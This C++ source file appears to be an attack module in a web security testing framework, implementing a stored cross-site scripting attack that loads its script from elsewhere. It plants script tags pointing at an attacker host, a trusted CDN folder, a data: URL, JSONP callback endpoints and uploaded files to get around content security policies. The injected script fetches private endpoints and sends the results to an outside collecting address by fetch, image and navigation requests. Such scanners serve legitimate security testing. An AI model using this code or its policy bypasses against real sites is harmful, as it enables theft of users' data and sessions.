// xss-remote-script: an injected script that is not in the page but loaded: from the attacker's
// hosts, from his folder on a CDN that a policy may trust as a whole, from a data: address, and
// from the app itself where an answer can be made to be script: a JSONP callback, an upload
// (https://csp-evaluator.withgoogle.com knows the same bypasses).
#include "core/attack/every_agent.h"
#include "core/attack/page_script.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/attack/stored_text.h"
#include "core/attack/upload.h"
#include "core/http/percent.h"

namespace parapet::attack {
namespace {

class XssRemoteScript final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const collecting = collecting_address(*evil);
        StoredText text(target);
        std::vector<std::string> scripts;
        for (std::string const& address : addresses(target, script_for(target, collecting)))
            scripts.push_back("<script src=" + in_quotes(address) + "></script>");
        text.leave_all(scripts);
        victim_reads_and_loot_is_used(target);
    }

    static std::string script_for(Target const& target, std::string const& address) {
        std::string script = send_script(Channel::Fetch, address, kAllInReach) +
                             send_script(Channel::Image, address, kAllInReach) +
                             send_script(Channel::Navigation, address, kAllInReach);
        for (Endpoint const* each : private_endpoints(target))
            script = fetch_and_send(each->path, address) + script;
        return once(script);
    }

    // Of the script, wherever it can be made to lie.
    static std::vector<std::string> addresses(Target& target, std::string const& script) {
        http::Response const file{
            .status = 200,
            .headers = {{"content-type", "text/javascript"}, {"access-control-allow-origin", "*"}},
            .body = script};
        std::vector<std::string> all = serve_everywhere(target, "x.js", file);
        all.push_back("data:text/javascript," + http::percent_encode(script));
        for (Endpoint const& each : target.surface().endpoints)
            if (std::string const address = callback_of(each, script); !address.empty())
                all.push_back(address);
        for (std::string const& path : upload(target, script)) all.push_back(path);
        return all;
    }

    // "?callback=SCRIPT//" of an endpoint that wraps its answer in a call.
    static std::string callback_of(Endpoint const& endpoint, std::string const& script) {
        std::vector<std::string> values = samples(endpoint);
        for (std::size_t i = 0; i < values.size(); ++i) {
            std::string const& name = endpoint.parameters[i].name;
            if (name != "callback" && name != "jsonp" && name != "cb") continue;
            values[i] = script + "//";
            return write_request(endpoint, values).target;
        }
        return {};
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_remote_script() { return std::make_unique<XssRemoteScript>(); }

}  // namespace parapet::attack
